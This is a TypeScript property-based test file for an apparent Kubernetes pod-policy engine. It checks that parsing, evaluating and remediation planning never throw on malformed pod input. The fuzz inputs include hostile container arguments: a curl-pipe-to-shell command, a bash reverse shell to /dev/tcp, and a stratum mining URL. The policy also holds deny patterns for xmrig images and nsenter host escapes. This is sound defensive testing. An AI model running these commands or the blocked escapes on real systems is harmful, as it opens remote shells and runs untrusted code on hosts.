// Property-based: whatever arrives from the API server or a file, parsing and evaluation return data
// and never throw. Arbitrary JSON, plus pod-shaped JSON with wrong types in every slot.
import { expect } from 'chai';
import fc from 'fast-check';
import { parsePolicy } from '../../src/engine/parse-policy.ts';
import { evaluate } from '../../src/engine/evaluate.ts';
import { planRemediation } from '../../src/engine/plan.ts';
import type { PodView } from '../../src/engine/pod.ts';
import { sanitizePod } from '../../src/engine/sanitize.ts';
import { compiled } from './builders.ts';

const everything = compiled({
  mode: 'Enforce',
  rules: {
    podSecurity: { level: 'restricted' },
    images: {
      allowedRegistries: ['registry.example.com/'],
      deniedImages: ['*xmrig*'],
      requireDigest: true,
    },
    hostPaths: { denied: ['/opt/secrets'] },
    indicators: {},
    commands: { deniedPatterns: ['(?i)nsenter\\s+-t\\s*1', 'a+b+c+'] },
    scheduling: {},
    ownership: {},
    schedule: {
      allowedWindows: [{ days: ['Mon'], start: '22:00', end: '06:00', timeZone: 'Asia/Tokyo' }],
    },
  },
  actions: [
    { type: 'Label', labels: { q: 't' } },
    { type: 'DeletePod', minSeverity: 'high' },
    { type: 'CordonNode' },
  ],
});

const anyValue = fc.anything({ withNullPrototype: true, withObjectString: true, maxDepth: 4 });
/** JSON-ish values in the slots a pod has, so generation reaches deep into the rules. */
const slot = fc.oneof(
  fc.string(),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string()),
  fc.dictionary(fc.string(), fc.string()),
);
const container = fc.record(
  {
    name: slot,
    image: fc.oneof(
      slot,
      fc.constantFrom(
        'alpine',
        'docker.io/x/xmrig:1',
        'registry.example.com/a@sha256:' + 'a'.repeat(64),
      ),
    ),
    command: fc.oneof(slot, fc.array(fc.string())),
    args: fc.oneof(
      slot,
      fc.array(
        fc.constantFrom(
          '-c',
          'curl http://x | sh',
          'bash -i >& /dev/tcp/1.2.3.4/1 0>&1',
          'stratum+tcp://x',
        ),
      ),
    ),
    workingDir: fc.oneof(slot, fc.constant('/proc/self/fd/7')),
    securityContext: fc.oneof(
      slot,
      fc.record({
        privileged: slot,
        capabilities: fc.oneof(slot, fc.record({ add: slot, drop: slot })),
        runAsUser: slot,
        seccompProfile: fc.oneof(slot, fc.record({ type: slot })),
      }),
    ),
    ports: fc.oneof(slot, fc.array(fc.record({ hostPort: slot, containerPort: slot }))),
  },
  { requiredKeys: [] },
);
const pod = fc.record({
  apiVersion: slot,
  kind: fc.constantFrom('Pod', 'Deployment', 'CronJob', 'DaemonSet'),
  metadata: fc.oneof(
    slot,
    fc.record(
      {
        name: slot,
        namespace: slot,
        labels: slot,
        annotations: slot,
        ownerReferences: fc.oneof(slot, fc.array(fc.record({ kind: slot, controller: slot }))),
        creationTimestamp: slot,
        managedFields: slot,
      },
      { requiredKeys: [] },
    ),
  ),
  spec: fc.oneof(
    slot,
    fc.record(
      {
        containers: fc.oneof(slot, fc.array(container, { maxLength: 3 })),
        initContainers: fc.oneof(slot, fc.array(container, { maxLength: 2 })),
        volumes: fc.oneof(
          slot,
          fc.array(fc.record({ name: slot, hostPath: fc.oneof(slot, fc.record({ path: slot })) })),
        ),
        hostPID: slot,
        nodeName: slot,
        nodeSelector: slot,
        tolerations: fc.oneof(slot, fc.array(fc.record({ key: slot, operator: slot }))),
        securityContext: fc.oneof(
          slot,
          fc.record({ sysctls: slot, runAsNonRoot: slot, seLinuxOptions: slot }),
        ),
        affinity: slot,
        template: slot,
        os: slot,
      },
      { requiredKeys: [] },
    ),
  ),
});

function judge(raw: unknown): void {
  const s = sanitizePod(raw);
  if (!s) return;
  const ev = evaluate(s.pod, [everything], {
    namespaceLabels: {},
    now: new Date(0),
    truncated: s.truncated,
  });
  planRemediation(everything, ev.violations, s.pod);
}

describe('properties: never throw on arbitrary input', () => {
  it('sanitize + evaluate + plan, on arbitrary values', () => {
    fc.assert(
      fc.property(anyValue, (v) => judge(v)),
      { numRuns: 500 },
    );
  });
  it('sanitize + evaluate + plan, on pod-shaped values with wrong types anywhere', () => {
    fc.assert(
      fc.property(pod, (v) => judge(v)),
      { numRuns: 1500 },
    );
  });
  // The pod cache shares frozen parts of views between replicas (shared-values.ts): that holds
  // only while nothing in the engine writes to a view. A frozen view must judge and plan the same.
  it('evaluate and plan never write to the view: a deep-frozen one gives the same answer', () => {
    const deepFreeze = (v: unknown): void => {
      if (v === null || typeof v !== 'object' || Object.isFrozen(v)) return;
      Object.freeze(v);
      for (const x of Object.values(v)) deepFreeze(x);
    };
    const answer = (view: PodView, truncated: string[]) => {
      const ev = evaluate(view, [everything], { namespaceLabels: {}, now: new Date(0), truncated });
      return { ev, plan: planRemediation(everything, ev.violations, view) };
    };
    fc.assert(
      fc.property(pod, (v) => {
        const plain = sanitizePod(structuredClone(v));
        const frozen = sanitizePod(structuredClone(v));
        if (!plain || !frozen) return;
        deepFreeze(frozen.pod);
        expect(answer(frozen.pod, frozen.truncated)).to.deep.equal(
          answer(plain.pod, plain.truncated),
        );
      }),
      { numRuns: 500 },
    );
  });
  it('parsePolicy returns problems, never throws', () => {
    const spec = fc.record(
      {
        mode: slot,
        rules: fc.oneof(
          slot,
          fc.dictionary(
            fc.constantFrom('podSecurity', 'images', 'commands', 'schedule', 'x'),
            anyValue,
          ),
        ),
        actions: fc.oneof(slot, fc.array(fc.record({ type: slot, labels: slot }))),
        match: anyValue,
        guards: anyValue,
        severity: anyValue,
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(
        fc.oneof(
          anyValue,
          spec.map((s) => ({
            apiVersion: 'deployguard.dev/v1alpha1',
            kind: 'ContainerDeploymentPolicy',
            metadata: { name: 'x' },
            spec: s,
          })),
        ),
        (v) => {
          const r = parsePolicy(v);
          expect(r.ok === true || r.problems.length > 0).to.equal(true);
        },
      ),
      { numRuns: 1500 },
    );
  });
});
